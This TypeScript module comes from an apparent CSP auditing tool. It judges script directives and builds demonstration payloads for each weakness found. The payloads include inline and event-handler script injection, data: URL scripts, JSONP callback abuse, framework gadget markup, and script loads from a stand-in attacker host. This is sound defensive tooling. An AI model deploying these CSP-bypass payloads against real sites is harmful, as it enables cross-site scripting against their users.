/**
 * Scripts: what lets an attacker's script run.
 * CSP #script-checks, #strict-dynamic-usage; docs/csp-findings.md names the evidence.
 * @module
 */
import { doesSourceListAllowAllInlineBehavior, findKeyword } from "../decide/match-element.ts";
import { chromium } from "../decide/profile.ts";
import { type FetchDirective, getExecutingDirective } from "../policy/fetch-directive.ts";
import { getDirective, type Policy } from "../policy/policy.ts";
import type { HostSource, SchemeSource, SourceExpression } from "../policy/source-list.ts";
import { type Attack, doesAttackPass, scriptAttack } from "./attack.ts";
import { type Bypass, fileIn, findBypasses } from "./bypass.ts";
import { isOpen } from "./content.ts";
import type { FindingType } from "./finding.ts";
import { type FoundGadget, findGadgets, type Gadget } from "./gadgets.ts";
import type { BypassClass } from "./hosts.ts";
import {
  type Draft,
  type Judging,
  quote,
  spanOf,
  withDirectives,
  withoutAttack,
  withoutSources,
} from "./judging.ts";
import { isRegistry } from "./names.ts";
import {
  angularExpression,
  attacker,
  escapeAttribute,
  type Payload,
  payload,
  proof,
  type StandIn,
  scriptFrom,
} from "./payload.ts";

const inlinePayload = payload(`<script>${proof}</script>`);
const handlerPayload = payload(`<svg onload='${proof}'></svg>`);

export function* judgeScripts(judging: Judging): Generator<Draft> {
  const { policy } = judging;
  const forElements = getExecutingDirective(policy, "script-src-elem");
  const forAttributes = getExecutingDirective(policy, "script-src-attr");
  yield* judgeMissing(policy, forElements, forAttributes);
  yield* judgeInline(judging, forElements, forAttributes);
  yield* judgeEval(judging);
  // Hashes count for event handlers by the one, for javascript: links by the other.
  for (const directive of new Set([forAttributes, forElements])) {
    if (directive) yield* judgeUnsafeHashes(policy, directive);
  }
  if (forElements) yield* judgeList(judging, forElements);
  // Browsers without script-src-elem go by these.
  const fallback = getDirective(policy, "script-src") ?? getDirective(policy, "default-src");
  if (fallback && forElements?.name === "script-src-elem") {
    for (const draft of judgeList(judging, fallback)) {
      const { attack: _, payload: __, ...rest } = draft;
      yield {
        ...rest,
        severity: "info",
        message: `${rest.message} (Only for browsers without script-src-elem.)`,
      };
    }
  }
  const attributes = getDirective(policy, "script-src-attr");
  for (const source of attributes?.value ?? []) {
    if (isUrlSource(source))
      yield withoutEffect("script-src-attr", source, "event handlers have no URL");
  }
  for (const found of findGadgets(judging.context.scripts ?? [])) {
    yield* judgeGadget(judging, found, forElements);
  }
}

function* judgeMissing(
  policy: Policy,
  forElements: FetchDirective | null,
  forAttributes: FetchDirective | null,
): Generator<Draft> {
  if (forElements && forAttributes) return;
  const none = !forElements && !forAttributes;
  const what = none ? "No script" : forElements ? "No event handler" : "No script element";
  yield {
    type: "missing-script-src",
    directive: "script-src",
    span: spanOf(policy),
    absent: true,
    message: `${what} is restricted: there is neither script-src nor default-src.`,
    mended: () => withDirectives(policy, { "script-src": ["'self'"] }),
    attack: { type: "inline", of: forElements ? "script attribute" : "script" },
    payload: forElements ? handlerPayload : inlinePayload,
  };
}

function* judgeInline(
  judging: Judging,
  forElements: FetchDirective | null,
  forAttributes: FetchDirective | null,
): Generator<Draft> {
  const kinds = [
    { of: "script", directive: forElements, narrow: "script-src", payload: inlinePayload },
    {
      of: "script attribute",
      directive: forAttributes,
      narrow: "script-src",
      payload: handlerPayload,
    },
  ] as const;
  const seen = new Set<SourceExpression>();
  for (const { of, directive, narrow, payload: shown } of kinds) {
    if (!directive) continue;
    const expression = doesSourceListAllowAllInlineBehavior(directive.value, of, chromium);
    const written = findKeyword(directive.value, "'unsafe-inline'");
    if (!written || seen.has(written)) continue;
    seen.add(written);
    if (!expression) {
      yield ignored(directive, written);
      continue;
    }
    const attack: Attack = { type: "inline", of };
    yield {
      type: "script-unsafe-inline",
      directive: directive.name,
      span: expression,
      message: `'unsafe-inline' in ${directive.name} lets every inline script run.`,
      mended: () => withoutAttack(judging, directive, narrow, attack),
      attack,
      payload: shown,
    };
  }
}

function* judgeEval(judging: Judging): Generator<Draft> {
  const { policy } = judging;
  const directive = getDirective(policy, "script-src") ?? getDirective(policy, "default-src");
  const expression = directive ? findKeyword(directive.value, "'unsafe-eval'") : null;
  if (directive && expression) {
    const attack: Attack = { type: "eval" };
    yield {
      type: "script-unsafe-eval",
      directive: directive.name,
      span: expression,
      message: `'unsafe-eval' in ${directive.name} lets text be compiled as script.`,
      mended: () => withoutAttack(judging, directive, "script-src", attack),
      attack,
    };
  }
  for (const name of ["script-src-elem", "script-src-attr"] as const) {
    const list = getDirective(policy, name)?.value ?? [];
    for (const keyword of [
      "'unsafe-eval'",
      "'wasm-unsafe-eval'",
      "'trusted-types-eval'",
    ] as const) {
      const misplaced = findKeyword(list, keyword);
      if (misplaced)
        yield withoutEffect(name, misplaced, "eval is decided by script-src or default-src");
    }
  }
}

function* judgeUnsafeHashes(policy: Policy, directive: FetchDirective): Generator<Draft> {
  const expression = findKeyword(directive.value, "'unsafe-hashes'");
  if (!expression) return;
  const hashes = directive.value.filter(({ type }) => type === "hash-source").length;
  yield {
    type: hashes > 0 ? "script-unsafe-hashes" : "script-unsafe-hashes-alone",
    directive: directive.name,
    span: expression,
    message:
      hashes > 0
        ? `${hashes === 1 ? "One hash" : `${hashes} hashes`} may also be event handlers or javascript: links.`
        : "There is no hash that 'unsafe-hashes' could be about.",
    mended: () =>
      withoutSources<SourceExpression>(
        policy,
        directive,
        "script-src",
        (source) => source === expression,
      ),
  };
}

// The sources of the directive that script elements go by.
function* judgeList(judging: Judging, directive: FetchDirective): Generator<Draft> {
  const { policy } = judging;
  const list = directive.value;
  const strictDynamic = findKeyword(list, "'strict-dynamic'");
  const authorized = list.some(({ type }) => type === "nonce-source" || type === "hash-source");
  if (strictDynamic) {
    for (const source of list) {
      const isSelf = source.type === "keyword-source" && source.keyword === "'self'";
      if (isSelf || isUrlSource(source)) yield ignored(directive, source);
    }
    if (!authorized) {
      const message =
        "'strict-dynamic' stands without a nonce or hash, so no script of the page runs.";
      yield {
        type: "strict-dynamic-alone",
        directive: directive.name,
        span: strictDynamic,
        message,
      };
    }
  } else {
    const listing = createListing(judging, directive);
    // A string that comes again adds nothing.
    const seen = new Set<string>();
    for (const source of list) {
      if (!seen.has(source.text)) yield* judgeSource(listing, source);
      seen.add(source.text);
    }
    const listed = list.find(isUrlSource);
    if (listed) {
      const message = `${directive.name} lists hosts or schemes and has no 'strict-dynamic'.`;
      yield { type: "script-allowlist", directive: directive.name, span: directive, message };
    }
  }
  const rules = findKeyword(list, "'inline-speculation-rules'");
  if (rules) {
    const message = "Every inline element of speculation rules is allowed.";
    const mended = () =>
      withoutSources<SourceExpression>(
        policy,
        directive,
        "script-src",
        (source) => source === rules,
      );
    yield {
      type: "script-speculation-rules",
      directive: directive.name,
      span: rules,
      message,
      mended,
    };
  }
  if (judging.context.oldBrowsers) yield* judgeForOldBrowsers(policy, directive, authorized);
}

function* judgeForOldBrowsers(
  policy: Policy,
  directive: FetchDirective,
  authorized: boolean,
): Generator<Draft> {
  const { name, value } = directive;
  const texts = value.map(({ text }) => text);
  if (authorized && !findKeyword(value, "'unsafe-inline'")) {
    yield {
      type: "unsafe-inline-fallback",
      directive: name,
      span: directive,
      message: `${name} has nonces or hashes and no 'unsafe-inline' for browsers without them.`,
      mended: () => withDirectives(policy, { [name]: [...texts, "'unsafe-inline'"] }),
    };
  }
  const hosts = value.some((source) => source.type === "host-source" || isOpen(source));
  if (findKeyword(value, "'strict-dynamic'") && !hosts) {
    yield {
      type: "allowlist-fallback",
      directive: name,
      span: directive,
      message: `${name} has 'strict-dynamic' and no scheme or host for browsers without it.`,
      mended: () => withDirectives(policy, { [name]: [...texts, "https:"] }),
    };
  }
}

function isUrlSource(source: SourceExpression): source is HostSource | SchemeSource {
  return source.type === "host-source" || source.type === "scheme-source";
}

function ignored(directive: FetchDirective, source: SourceExpression): Draft {
  const message = `${quote(source.text)} is out of force: another source of ${directive.name} switches it off.`;
  return { type: "ignored-source", directive: directive.name, span: source, message };
}

function withoutEffect(directive: string, source: SourceExpression, because: string): Draft {
  const message = `${quote(source.text)} has no effect in ${directive}: ${because}.`;
  return { type: "without-effect", directive, span: source, message };
}

/** A source list, and what is asked of it for each of its sources. */
interface Listing {
  readonly judging: Judging;
  readonly directive: FetchDirective;
  readonly canEval: boolean;
  /** A source of it that redirects anywhere. */
  readonly redirect: Bypass | undefined;
  /** Whether a URL can be loaded by that redirect alone, by URL. */
  readonly escapes: Map<string, boolean>;
}

function createListing(judging: Judging, directive: FetchDirective): Listing {
  const { policy, selfOrigin } = judging;
  let redirect: Bypass | undefined;
  for (const source of directive.value) {
    if (source.type !== "host-source") continue;
    redirect ??= findBypasses(source, selfOrigin).find(({ known }) => known.class === "redirect");
  }
  const canEval = doesAttackPass({ type: "eval" }, policy, selfOrigin);
  return { judging, directive, canEval, redirect, escapes: new Map() };
}

function* judgeSource(listing: Listing, source: SourceExpression): Generator<Draft> {
  const { judging, directive } = listing;
  if (source.type === "keyword-source" && source.keyword === "'self'") {
    const message = "'self' lets every script of the page's origin run.";
    const { selfOrigin } = judging;
    const attack = selfOrigin === "null" ? {} : { attack: scriptAttack(`${selfOrigin}/file.js`) };
    yield { type: "script-self", directive: directive.name, span: source, message, ...attack };
  }
  if (source.type === "scheme-source") yield* judgeScheme(judging, directive, source);
  if (source.type === "host-source") yield* judgeHost(listing, source);
}

/** A finding of a script that the attacker loads, mended by deleting all that lets it in. */
function loading(
  type: FindingType,
  judging: Judging,
  directive: FetchDirective,
  source: SourceExpression,
  message: string,
  url: string,
  shown: Payload = scriptFrom(url),
): Draft {
  const attack = scriptAttack(url);
  const mended = () => withoutAttack(judging, directive, "script-src", attack);
  return { type, directive: directive.name, span: source, message, mended, attack, payload: shown };
}

function* judgeScheme(
  judging: Judging,
  directive: FetchDirective,
  source: SchemeSource,
): Generator<Draft> {
  const { schemePart, text } = source;
  switch (schemePart) {
    case "data": {
      const url = `data:text/javascript,${proof}`;
      const message = "data: lets a script be written into the URL itself.";
      const shown = payload(`<script src="${escapeAttribute(url)}"></script>`);
      yield loading("script-scheme", judging, directive, source, message, url, shown);
      return;
    }
    case "http":
    case "https": {
      const message = `${text} lets scripts come from every host.`;
      yield loading("script-scheme", judging, directive, source, message, `${attacker}/ran.js`);
      return;
    }
    case "blob":
    case "filesystem": {
      const message = `${text} lets scripts come from what a script has put together.`;
      const mended = () =>
        withoutSources<SourceExpression>(
          judging.policy,
          directive,
          "script-src",
          (other) => other === source,
        );
      yield {
        type: "script-local-scheme",
        directive: directive.name,
        span: source,
        message,
        mended,
      };
      return;
    }
    case "javascript":
      return;
    default:
      yield withoutEffect(directive.name, source, "no script has such a URL");
  }
}

function* judgeHost(listing: Listing, source: HostSource): Generator<Draft> {
  const { judging, directive } = listing;
  const { hostPart, pathPart, text } = source;
  const { selfOrigin } = judging;
  const suffix = hostPart.startsWith("*.") ? hostPart.slice(2) : null;
  const open =
    hostPart === "*"
      ? "attacker.example"
      : suffix && isRegistry(suffix)
        ? `attacker.${suffix}`
        : null;
  if (open !== null) {
    const url = urlOn(source, open).href;
    if (
      doesAttackPass(
        scriptAttack(url),
        onlyThis(judging.policy, directive, source),
        judging.selfOrigin,
      )
    ) {
      const isWildcard = hostPart === "*";
      yield loading(
        isWildcard ? "script-wildcard" : "script-wildcard-registry",
        judging,
        directive,
        source,
        isWildcard
          ? `${quote(text)} matches every host.`
          : `Anybody can register a name below ${suffix}.`,
        url,
      );
      return;
    }
  }
  const bypasses = findBypasses(source, selfOrigin);
  let isKnown = false;
  for (const [kind, found] of Map.groupBy(bypasses, ({ known }) => known.class)) {
    const draft = judgeBypass(listing, source, kind, found);
    if (!draft) continue;
    isKnown = true;
    yield draft;
  }
  const escape = pathPart === "" ? null : judgeEscape(listing, source);
  if (escape) {
    isKnown = true;
    yield escape;
  }
  if (!isKnown) {
    const message = `No bypass is known on ${quote(hostPart)}; one endpoint or old file there is enough.`;
    const attack = scriptAttack(urlOn(source));
    yield { type: "script-host", directive: directive.name, span: source, message, attack };
  }
}

/** A URL that a source matches; `host` in place of its own. */
function urlOn(source: HostSource, host: string = source.hostPart.replace("*", "any")): URL {
  const { schemePart, portPart, pathPart } = source;
  const scheme = schemePart === "http" ? "http" : "https";
  const port = typeof portPart === "number" && portPart < 65_536 ? `:${portPart}` : "";
  const path = fileIn(pathPart === "" ? "/" : pathPart, "ran.js");
  return URL.parse(`${scheme}://${host}${port}${path}`) ?? new URL(attacker);
}

function onlyThis(policy: Policy, directive: FetchDirective, source: SourceExpression): Policy {
  return { ...policy, directiveSet: [{ ...directive, value: [source] }] };
}

const typeOfClass: Readonly<Record<BypassClass, FindingType>> = {
  jsonp: "script-host-jsonp",
  "jsonp-method": "script-host-jsonp-method",
  gadget: "script-host-gadget",
  eval: "script-host-eval",
  uploads: "script-host-uploads",
  names: "script-host-shared",
  folders: "script-host-shared",
  redirect: "script-host-redirect",
};

const nounOfClass: Readonly<Record<BypassClass, string>> = {
  jsonp: "A JSONP endpoint",
  "jsonp-method": "A JSONP endpoint for function names",
  gadget: "AngularJS",
  eval: "A container that anybody fills",
  uploads: "What anybody publishes",
  names: "A name that anybody can have",
  folders: "A folder that anybody can have",
  redirect: "A redirect to anywhere",
};

function judgeBypass(
  { judging, directive, canEval }: Listing,
  source: HostSource,
  kind: BypassClass,
  found: readonly Bypass[],
): Draft | undefined {
  const [first] = found;
  const needsEval = kind === "eval";
  if (!first || (needsEval && !canEval)) return undefined;
  const { policy } = judging;
  const others = new Set(found.map(({ known }) => known.host)).size - 1;
  const more = others === 0 ? "" : ` and on ${others} more ${others === 1 ? "host" : "hosts"}`;
  const { seen, source: evidence } = first.known;
  const { host, pathname } = first.url;
  const message = `${nounOfClass[kind]} at ${host}${pathname}${more} (${evidence}, ${seen}).`;
  const attack = scriptAttack(first.url);
  if (needsEval) {
    const evaluating: Attack = { type: "all", of: [attack, { type: "eval" }] };
    const main = getDirective(policy, "script-src") ?? getDirective(policy, "default-src");
    return {
      type: "script-host-eval",
      directive: directive.name,
      span: source,
      message,
      // Without a directive that restricts eval, the container is kept out.
      mended: () =>
        main
          ? withoutAttack(judging, main, "script-src", { type: "eval" })
          : withoutAttack(judging, directive, "script-src", attack),
      attack: evaluating,
      payload: payloadOf(kind, first.url),
    };
  }
  const type = typeOfClass[kind];
  if (kind === "redirect" || kind === "jsonp-method") {
    const mended = () => withoutAttack(judging, directive, "script-src", attack);
    return { type, directive: directive.name, span: source, message, mended, attack };
  }
  const { href } = first.url;
  return loading(type, judging, directive, source, message, href, payloadOf(kind, first.url));
}

/** A script element of a known host; `redirect` is the URL that leads there, if the element doesn't name it itself. */
function payloadOf(kind: BypassClass, { href }: URL, redirect?: URL): Payload {
  const load = (url: string, standIn: StandIn, after = ""): Payload => {
    const html = `<script src="${escapeAttribute(redirect?.href ?? url)}"></script>${after}`;
    const leading = redirect ? [{ type: "redirect", url: redirect.href, to: url } as const] : [];
    return payload(html, [...leading, standIn]);
  };
  switch (kind) {
    case "jsonp": {
      const callback = encodeURIComponent(`${proof};(function(){})`);
      const standIn = { type: "jsonp", url: href, parameter: "callback" } as const;
      return load(`${href}?callback=${callback}`, standIn);
    }
    case "gadget": {
      const standIn = { type: "library", url: href, library: "AngularJS" } as const;
      return load(href, standIn, angularExpression);
    }
    case "eval": {
      const body = `Function(${JSON.stringify(proof)})()`;
      return load(`${href}?id=GTM-ATTACKER`, { type: "script", url: href, body });
    }
    case "uploads":
    case "names":
    case "folders":
    case "jsonp-method":
    case "redirect":
      return load(href, { type: "script", url: href, body: proof });
  }
}

const escapeClasses: ReadonlySet<BypassClass> = new Set(["jsonp", "gadget", "uploads", "folders"]);

/** A path that keeps a known bypass out, and a redirect that leads there all the same. */
function judgeEscape(
  { judging, directive, redirect, escapes }: Listing,
  source: HostSource,
): Draft | undefined {
  if (!redirect) return undefined;
  const { policy, selfOrigin } = judging;
  for (const { known, url } of findBypasses(source, selfOrigin, true)) {
    if (!escapeClasses.has(known.class)) continue;
    const attack = scriptAttack(redirect.url, url);
    let escaping = escapes.get(url.href);
    if (escaping === undefined) {
      const direct = doesAttackPass(scriptAttack(url), policy, selfOrigin);
      escaping = !direct && doesAttackPass(attack, policy, selfOrigin);
      escapes.set(url.href, escaping);
    }
    if (!escaping) continue;
    return {
      type: "script-path-escape",
      directive: directive.name,
      span: source,
      message: `${redirect.known.host} redirects anywhere, so the path does not keep ${known.host}${url.pathname} out.`,
      mended: () => withoutAttack(judging, directive, "script-src", scriptAttack(redirect.url)),
      attack,
      payload: payloadOf(known.class, url, redirect.url),
    };
  }
  return undefined;
}

function* judgeGadget(
  judging: Judging,
  { script, gadget, version }: FoundGadget,
  directive: FetchDirective | null,
): Generator<Draft> {
  if (!directive) return;
  const { policy, selfOrigin } = judging;
  const { library, needs } = gadget;
  const strictDynamic = findKeyword(directive.value, "'strict-dynamic'");
  const main = getDirective(policy, "script-src") ?? getDirective(policy, "default-src");
  let mended: (() => string | undefined) | undefined;
  switch (needs) {
    case "any": {
      const url = URL.parse(script, selfOrigin === "null" ? undefined : selfOrigin);
      const load = scriptAttack(url ?? attacker);
      if (!url || !doesAttackPass(load, policy, selfOrigin)) break;
      mended = () => withoutAttack(judging, directive, "script-src", load);
      break;
    }
    case "strict-dynamic":
      if (!strictDynamic) return;
      mended = () =>
        withoutSources<SourceExpression>(
          policy,
          directive,
          "script-src",
          (source) => source === strictDynamic,
        );
      break;
    case "unsafe-eval":
      if (!main || !doesAttackPass({ type: "eval" }, policy, selfOrigin)) return;
      mended = () => withoutAttack(judging, main, "script-src", { type: "eval" });
  }
  const shown = gadgetPayload(script, gadget, directive);
  yield {
    type: "script-gadget",
    directive: directive.name,
    span: directive,
    severity: shown ? "high" : "medium",
    message: `${library} ${version ?? "(of an unknown version)"}: ${gadget.attack}`,
    mended,
    payload: shown,
  };
}

/** Payloads for libraries that start by themselves, or with the one call that every page makes. */
function gadgetPayload(
  script: string,
  { library, needs }: Gadget,
  { value }: FetchDirective,
): Payload | undefined {
  const nonce = value.find(({ type }) => type === "nonce-source");
  const attribute = nonce?.type === "nonce-source" ? ` nonce="${nonce.base64Value}"` : "";
  const load = `<script${attribute} src="${escapeAttribute(script)}"></script>`;
  const standIns = [{ type: "library", url: script, library }] as const;
  switch (`${library} ${needs}`) {
    case "AngularJS any":
      return payload(angularExpression, standIns, load);
    case "Alpine unsafe-eval":
      return payload(`<div x-data x-init='${proof}'></div>`, standIns, load);
    case "Knockout unsafe-eval": {
      if (!nonce) return undefined;
      const apply = `<script${attribute}>ko.applyBindings()</script>`;
      return payload(`<p data-bind='text: ${proof}'></p>`, standIns, load + apply);
    }
    case "RequireJS strict-dynamic": {
      const url = `${attacker}/ran.js`;
      const html = `<script data-main="${url}"></script>`;
      return payload(html, [...standIns, { type: "script", url, body: proof }], load);
    }
    default:
      return undefined;
  }
}
